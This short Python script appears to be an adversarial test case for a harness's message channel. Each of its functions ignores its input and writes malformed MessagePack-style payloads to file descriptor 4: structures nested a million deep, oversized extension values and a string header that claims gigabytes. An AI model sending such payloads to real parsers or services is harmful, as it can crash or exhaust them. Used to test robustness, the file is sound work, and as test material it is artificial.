# /// attack
# tries = "a structure nested a million deep, extensions, maps, wrong types"
# covers = ["deep nesting", "malformed values"]
# keeps = ["table"]
# ///
# %%
import os, struct


def send(body):
    data = struct.pack("<B3xIQ", 2, len(body), 0) + body
    while data:
        data = data[os.write(4, data) :]


def twice(x):
    send(b"\x93\x91" + b"\x92\x01\x91" * 10**6)


def total(x):
    send(b"\x93\x91\xc7\xff\x01" + bytes(255))


def loss(W):
    send(b"\x81\xa1a" * 10**6)


def rows(X):
    send(b"\x93\x91\xdb\xff\xff\xff\xff")


# %% honest table
